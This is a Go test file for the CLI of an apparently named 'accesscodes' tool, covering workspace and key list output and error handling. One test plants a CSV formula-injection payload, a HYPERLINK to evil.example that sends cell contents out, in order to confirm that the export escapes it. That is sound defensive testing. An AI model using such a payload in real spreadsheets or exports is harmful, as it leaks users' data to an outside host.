package cli_test

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"accesscodes/internal/csvcell"
)

// The rows of lists, as JSON shows them.
type (
	workspaceRow struct {
		ID, Slug, Name, Prefix string
		Groups, GroupLength    int
		SuspendedAt            *time.Time
		CreatedAt              time.Time
	}
	keyRow struct {
		ID, Key, Name, Role, Status      string
		CreatedAt                        time.Time
		ExpiresAt, RevokedAt, LastUsedAt *time.Time
	}
	migrationRow struct {
		Version      int64
		Name, Status string
		AppliedAt    *time.Time
	}
)

// list runs a command that prints a list and reads it as JSON.
func list[Row any](t *testing.T, p *program, line string) (rows []Row) {
	t.Helper()
	out := p.must(t, line+" --output json")
	if err := json.Unmarshal([]byte(out), &rows); err != nil {
		t.Fatalf("%s: %v in %s", line, err, out)
	}
	return rows
}

func TestOutput(t *testing.T) {
	cases := []struct{ name, line, want string }{
		{"workspaces as a table, the default", "workspace list", `
SLUG  NAME  PREFIX  GROUPS  GROUPLENGTH  SUSPENDEDAT           CREATEDAT             ID                                    EVENTS
acme  Acme  ACME    2       4                                  2030-01-02T03:04:05Z  00000000-0000-7000-8000-000000000000  some
zoo   Zoo           3       5            2030-01-02T03:04:05Z  2030-01-02T03:04:05Z  00000000-0000-7000-8000-000000000000  some
`},
		{"workspaces as a table", "workspace list --output table", `
SLUG  NAME  PREFIX  GROUPS  GROUPLENGTH  SUSPENDEDAT           CREATEDAT             ID                                    EVENTS
acme  Acme  ACME    2       4                                  2030-01-02T03:04:05Z  00000000-0000-7000-8000-000000000000  some
zoo   Zoo           3       5            2030-01-02T03:04:05Z  2030-01-02T03:04:05Z  00000000-0000-7000-8000-000000000000  some
`},
		{"workspaces as CSV", "workspace list --output csv", `
slug,name,prefix,groups,groupLength,suspendedAt,createdAt,id,events
acme,Acme,ACME,2,4,,2030-01-02T03:04:05Z,00000000-0000-7000-8000-000000000000,some
zoo,Zoo,,3,5,2030-01-02T03:04:05Z,2030-01-02T03:04:05Z,00000000-0000-7000-8000-000000000000,some
`},
		{"workspaces as JSON", "workspace list --output json", `
[
  {
    "createdAt": "2030-01-02T03:04:05Z",
    "events": "some",
    "groupLength": 4,
    "groups": 2,
    "id": "00000000-0000-7000-8000-000000000000",
    "name": "Acme",
    "prefix": "ACME",
    "slug": "acme",
    "suspendedAt": null
  },
  {
    "createdAt": "2030-01-02T03:04:05Z",
    "events": "some",
    "groupLength": 5,
    "groups": 3,
    "id": "00000000-0000-7000-8000-000000000000",
    "name": "Zoo",
    "prefix": "",
    "slug": "zoo",
    "suspendedAt": "2030-01-02T03:04:05Z"
  }
]
`},
		{"keys as a table", "key list --workspace acme", `
ID                                    KEY            NAME  ROLE   STATUS   CREATEDAT             EXPIRESAT             REVOKEDAT             LASTUSEDAT  REPLACEDBY
00000000-0000-7000-8000-000000000000  ack_abcd…wxyz  CRM   full   revoked  2030-01-02T03:04:05Z                        2030-01-02T03:04:05Z
00000000-0000-7000-8000-000000000000  ack_abcd…wxyz  Shop  issue  active   2030-01-02T03:04:05Z  2030-01-02T03:04:05Z
`},
		{"keys as CSV", "key list --workspace acme -o csv", `
id,key,name,role,status,createdAt,expiresAt,revokedAt,lastUsedAt,replacedBy
00000000-0000-7000-8000-000000000000,ack_abcd…wxyz,CRM,full,revoked,2030-01-02T03:04:05Z,,2030-01-02T03:04:05Z,,
00000000-0000-7000-8000-000000000000,ack_abcd…wxyz,Shop,issue,active,2030-01-02T03:04:05Z,2030-01-02T03:04:05Z,,,
`},
		{"keys as JSON", "key list --workspace acme -o json", `
[
  {
    "createdAt": "2030-01-02T03:04:05Z",
    "expiresAt": null,
    "id": "00000000-0000-7000-8000-000000000000",
    "key": "ack_abcd…wxyz",
    "lastUsedAt": null,
    "name": "CRM",
    "replacedBy": null,
    "revokedAt": "2030-01-02T03:04:05Z",
    "role": "full",
    "status": "revoked"
  },
  {
    "createdAt": "2030-01-02T03:04:05Z",
    "expiresAt": "2030-01-02T03:04:05Z",
    "id": "00000000-0000-7000-8000-000000000000",
    "key": "ack_abcd…wxyz",
    "lastUsedAt": null,
    "name": "Shop",
    "replacedBy": null,
    "revokedAt": null,
    "role": "issue",
    "status": "active"
  }
]
`},
		{"no rows as a table", "key list --workspace zoo", `
ID  KEY  NAME  ROLE  STATUS  CREATEDAT  EXPIRESAT  REVOKEDAT  LASTUSEDAT  REPLACEDBY
`},
		{"no rows as CSV", "key list --workspace zoo -o csv", `
id,key,name,role,status,createdAt,expiresAt,revokedAt,lastUsedAt,replacedBy
`},
		{"no rows as JSON", "key list --workspace zoo -o json", `
[]
`},
	}
	p := newProgram(t)
	p.must(t, "workspace create acme --name Acme --prefix ACME")
	p.must(t, "workspace create zoo --name Zoo --groups 3 --group-length 5")
	p.must(t, "workspace suspend zoo")
	secret := createKey(t, p, "--name CRM")
	createKey(t, p, "--name Shop --role issue --expires 90d")
	p.must(t, "key revoke "+secret)
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			check(t, p.run(t, c.line), result{stdout: c.want[1:]}) // without the line break that only sets it off here
		})
	}
}

// Names are chosen by whoever makes a workspace or a key, and CSV is opened in a spreadsheet,
// which runs a cell that begins like a formula.
func TestCSVHoldsNoFormula(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1)`
	p := newProgram(t)
	database := "sqlite:" + p.path
	for _, args := range [][]string{
		{"workspace", "create", "acme", "--name", formula, "--database", database},
		{"key", "create", "--workspace", "acme", "--name", formula, "--database", database},
	} {
		if got := p.exec(t, args...); got.code != 0 {
			t.Fatal(got.stderr)
		}
	}
	for _, line := range []string{"workspace list", "workspace show acme", "key list --workspace acme"} {
		rows, err := csv.NewReader(strings.NewReader(p.must(t, line+" --output csv"))).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		name := rows[1][slices.Index(rows[0], "name")]
		if name != "'"+formula || csvcell.Restore(name) != formula {
			t.Errorf("%s shows the name as %q", line, name)
		}
	}
	if got := list[workspaceRow](t, p, "workspace list"); got[0].Name != formula {
		t.Errorf("JSON shows the name as %q", got[0].Name)
	}
}

// A command line that makes no sense does nothing: neither what it asks for, nor a
// database where there was none.
func TestAWrongOutputDoesNothing(t *testing.T) {
	cases := []struct{ name, line string }{
		{"create a workspace", "workspace create new --name New"},
		{"list workspaces", "workspace list"},
		{"show a workspace", "workspace show acme"},
		{"update a workspace", "workspace update acme --name New"},
		{"suspend a workspace", "workspace suspend acme"},
		{"resume a workspace", "workspace resume acme"},
		{"list keys", "key list --workspace acme"},
		{"migrate", "migrate up"},
		{"show migrations", "migrate status"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			empty := newProgram(t)
			check(t, empty.run(t, c.line+" --output xml"),
				result{code: 2, stderr: "accesscodes: --output \"xml\" is not table, json or csv\n"})
			checkNoFile(t, empty.path)

			p := newProgram(t)
			p.must(t, "workspace create acme --name Acme")
			before := p.must(t, "workspace list -o json")
			p.run(t, c.line+" --output xml")
			if after := p.must(t, "workspace list -o json"); after != before {
				t.Errorf("was %s\nis %s", before, after)
			}
		})
	}
}

func TestAWrongOutputRevokesNoKey(t *testing.T) {
	p := newProgram(t)
	p.must(t, "workspace create acme --name Acme")
	secret := createKey(t, p, "--name CRM")
	if got := p.run(t, "key revoke --output xml "+secret); got.code != 2 {
		t.Errorf("exit %d: %s", got.code, got.stderr)
	}
	if key := list[keyRow](t, p, "key list --workspace acme")[0]; key.Status != "active" {
		t.Errorf("the key is %s", key.Status)
	}
}

func checkNoFile(t *testing.T, path string) {
	t.Helper()
	if _, err := os.Stat(path); !os.IsNotExist(err) {
		t.Errorf("%s was made (%v)", path, err)
	}
}
